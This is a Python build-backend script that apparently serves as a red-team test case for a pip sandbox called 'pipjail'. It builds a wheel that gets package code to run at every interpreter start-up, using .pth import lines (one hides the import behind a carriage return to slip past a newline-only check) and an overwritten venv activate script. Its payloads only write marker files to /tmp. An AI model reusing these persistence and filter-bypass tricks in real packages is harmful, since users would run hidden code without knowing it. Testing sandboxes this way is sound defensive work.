# Attacks C1-C4: a wheel whose files, all declared in its RECORD, make every
# later interpreter of the environment (pip included) run package code at
# start-up, without the package ever being imported:
#   C1 __editable__.rt1.pth   an import line in a .pth allowed by name
#   C2 rt1cr.pth              "x\rimport ..." : site.py splits on \r, the check on \n only
#   (C3, shadowing _distutils_hack, is caught when the venv has setuptools:
#    'changes a file owned by distribution setuptools')
#   C4 bin/activate           the venv's own activate script, owned by no RECORD
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-persist-startup", "1.0"

def payload(kind):
    # acts only outside pipjail's jail (the import check sees nothing)
    return (f"import os, sys\n"
            f"if not os.path.exists('/run/pipjail/anchors'):\n"
            f"    with open('/tmp/rt1-pwned-{kind}', 'a') as f:\n"
            f"        f.write(repr((os.getpid(), os.getuid(), sys.argv)) + '\\n')\n").encode()

def files():
    return {
        "__editable__.rt1.pth": b"import rt1_editable_payload\n",
        "rt1_editable_payload.py": payload("editable-pth"),
        "rt1cr.pth": b"# nothing here\rimport rt1_cr_payload\n",
        "rt1_cr_payload.py": payload("cr-pth"),
        f"{NAME.replace('-', '_')}-{VER}.data/scripts/activate":
            b"# overwritten by rt1-persist-startup\necho rt1-activate-ran >> /tmp/rt1-pwned-activate\n",
    }

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, files())
